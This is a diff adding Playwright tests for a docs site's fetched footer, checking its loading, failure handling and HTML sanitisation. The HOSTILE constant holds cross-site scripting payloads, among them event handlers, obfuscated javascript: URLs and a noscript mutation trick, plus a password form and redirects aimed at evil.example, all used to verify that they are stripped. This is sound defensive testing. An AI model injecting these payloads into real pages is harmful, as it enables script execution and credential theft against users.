@@ -1,0 +1,101 @@
+import { expect, type Page, test } from '@playwright/test'
+import { openHydrated } from '../../support/docs-page.ts'
+
+const footer = (page: Page) => page.locator('footer.site-footer')
+
+test('D-036 D-071 the footer file is fetched once a load and inserted at the end of the page', async ({
+  page,
+}) => {
+  let requests = 0
+  await page.route('**/footer.txt', async (route) => {
+    requests += 1
+    await route.fulfill({ body: '<p>Footer <a href="/intro">marker</a></p>', contentType: 'text/plain' })
+  })
+  await openHydrated(page, '/')
+  await expect(footer(page).getByRole('link', { name: 'marker' })).toBeVisible()
+  expect(await page.evaluate(() => document.querySelector('#app')?.lastElementChild?.className)).toBe(
+    'site-footer',
+  )
+  await page.locator('#menu').getByRole('link', { name: 'RPC Nodes' }).click()
+  await expect(page.getByRole('heading', { level: 1 })).toHaveText('RPC Nodes')
+  await expect(footer(page)).toBeVisible()
+  expect(requests).toBe(1)
+})
+
+test('D-036 the prerendered page has no footer', async ({ request }) => {
+  expect(await (await request.get('/', { headers: { Accept: 'text/html' } })).text()).not.toContain(
+    'site-footer',
+  )
+})
+
+test('P-046 the footer file can be read from another origin', async ({ page, baseURL }) => {
+  await page.route('https://elsewhere.example/', (route) =>
+    route.fulfill({ body: '<title>Elsewhere</title>' }),
+  )
+  await page.goto('https://elsewhere.example/')
+  const text = await page.evaluate(async (url) => (await fetch(url)).text(), `${baseURL}/footer.txt`)
+  expect(text).toContain('<')
+})
+
+test('D-079 a footer that cannot be fetched is left out without a word', async ({ page }) => {
+  const errors: string[] = []
+  page.on('pageerror', ({ message }) => errors.push(message))
+  await page.route('**/footer.txt', (route) => route.abort())
+  await openHydrated(page, '/')
+  await page.waitForTimeout(300)
+  await expect(footer(page)).toHaveCount(0)
+  expect(errors).toEqual([])
+})
+
+const USELESS = {
+  'a server error': { status: 500, body: '<p>Internal error</p>' },
+  'ten megabytes': { status: 200, body: '<p>x</p>'.repeat(1_250_000) },
+  'an empty file': { status: 200, body: '  ' },
+  'script alone': { status: 200, body: '<script>document.title = "owned"</script>' },
+}
+for (const [name, answer] of Object.entries(USELESS)) {
+  test(`D-079 ${name} for a footer is left out`, async ({ page }) => {
+    await page.route('**/footer.txt', (route) => route.fulfill({ contentType: 'text/plain', ...answer }))
+    await openHydrated(page, '/')
+    await page.waitForTimeout(500)
+    await expect(footer(page)).toHaveCount(0)
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+  })
+}
+
+test('a hostile footer loses everything but its words and safe links', async ({ page }) => {
+  const requests: string[] = []
+  page.on('request', (request) => requests.push(request.url()))
+  await page.route('**/footer.txt', (route) => route.fulfill({ contentType: 'text/plain', body: HOSTILE }))
+  await openHydrated(page, '/')
+  await expect(footer(page)).toContainText('safe words')
+  const left = await footer(page).evaluate((element) =>
+    [...element.querySelectorAll('*')].map((child) =>
+      [child.localName, ...[...child.attributes].map(({ name, value }) => `${name}=${value}`)].join(' '),
+    ),
+  )
+  expect(left).toEqual([
+    'p',
+    'a rel=noopener noreferrer',
+    'a rel=noopener noreferrer',
+    'a rel=noopener noreferrer',
+    'a href=https://docs.near.org/ rel=noopener noreferrer',
+    'b',
+    ...Array.from({ length: 33 }, () => 'div'),
+  ])
+  expect(await page.evaluate(() => Reflect.get(window, 'owned'))).toBeUndefined()
+  expect(requests.filter((url) => url.includes('evil'))).toEqual([])
+})
+
+const HOSTILE = `
+<script>window.owned = 1</script><style>body { display: none }</style>
+<p onclick="window.owned = 1" style="position:fixed" class="navbar" id="main">safe words</p>
+<img src="https://evil.example/x.png" onerror="window.owned = 1">
+<a href="javascript:window.owned=1">one</a> <a href=" java\tscript:window.owned=1">two</a> <a href="data:text/html,x">three</a>
+<a href="https://docs.near.org/" target="_top" ping="https://evil.example/">four</a>
+<svg onload="window.owned = 1"><script>window.owned = 1</script></svg><math><mtext><img src=x></mtext></math>
+<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>
+<form action="https://evil.example/"><input name="password"><button>Send</button></form>
+<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">
+<template><b>hidden</b></template><b>bold</b>${'<div>'.repeat(1000)}deep${'</div>'.repeat(1000)}
+<noscript><p title="</noscript><img src=x onerror=window.owned=1>"></noscript>`
